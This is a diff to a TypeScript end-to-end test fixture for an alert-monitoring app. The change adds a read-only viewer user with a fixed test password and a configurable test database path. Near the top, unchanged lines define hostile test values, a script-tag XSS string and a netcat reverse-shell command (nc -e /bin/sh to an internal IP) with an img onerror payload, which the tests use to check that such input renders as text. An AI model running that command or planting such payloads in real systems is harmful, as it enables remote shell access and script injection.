@@ -1,5 +1,6 @@
 import { randomUUID } from "node:crypto";
 import path from "node:path";
+import { hashPassword } from "../lib/auth/passwords";
 import { processDocument, seedAlert, seedEvent, seedRule, seedUpload } from "../lib/db/alert-test-fixtures";
 import { createPrismaClient } from "../lib/db/client";
 
@@ -9,8 +10,12 @@ import { createPrismaClient } from "../lib/db/client";
  * in both the guide and the event so the spec can prove it renders as text.
  */
 
-/** Same file as `e2eDatabase` in playwright.config.ts. */
-const E2E_DATABASE_URL = `file:${path.join(import.meta.dirname, "..", ".cache", "e2e", "keelwatch-e2e.db")}`;
+/**
+ * The file `e2eDatabase` in playwright.config.ts points the web server at; a run
+ * that gives its server another DATABASE_URL names it in E2E_DATABASE_URL.
+ */
+const E2E_DATABASE_URL =
+  process.env.E2E_DATABASE_URL ?? `file:${path.join(import.meta.dirname, "..", ".cache", "e2e", "keelwatch-e2e.db")}`;
 
 export const HOSTILE_EVENT_VALUE = '<script>window.__keelwatchPwned = "event"</script>';
 export const HOSTILE_COMMAND_LINE = "nc -e /bin/sh 10.0.0.9 4444 <img src=x onerror=alert(1)>";
@@ -31,8 +36,11 @@ A network tool connected out with a shell attached. See [MITRE T1059](https://at
 | \`process.command_line\` | what ran |
 `;
 
+export const VIEWER_PASSWORD = "viewer-password-0123";
+
 export interface SeededAlert {
   alertId: string;
+  viewerUsername: string;
   relatedAlertId: string;
   relatedRuleName: string;
   cleanup: () => Promise<void>;
@@ -111,14 +119,25 @@ export async function seedAlertDetail(): Promise<SeededAlert> {
     processName: "dig",
     timestamp: new Date("2026-11-23T05:00:00Z"),
   });
+  // a read-only colleague
+  const viewer = await db.user.create({
+    data: {
+      username: `viewer-${suffix}`,
+      displayName: `Viewer ${suffix}`,
+      role: "viewer",
+      passwordHash: await hashPassword(VIEWER_PASSWORD),
+    },
+  });
   return {
     alertId: alert.id,
+    viewerUsername: viewer.username,
     relatedAlertId: earlier.id,
     relatedRuleName: earlier.ruleName,
     cleanup: async () => {
       // other specs expect an empty database; rule and upload deletions cascade to the rest
       await db.rule.delete({ where: { id: rule.id } });
       await db.upload.delete({ where: { id: upload.id } });
+      await db.user.delete({ where: { id: viewer.id } });
       await db.$disconnect();
     },
   };
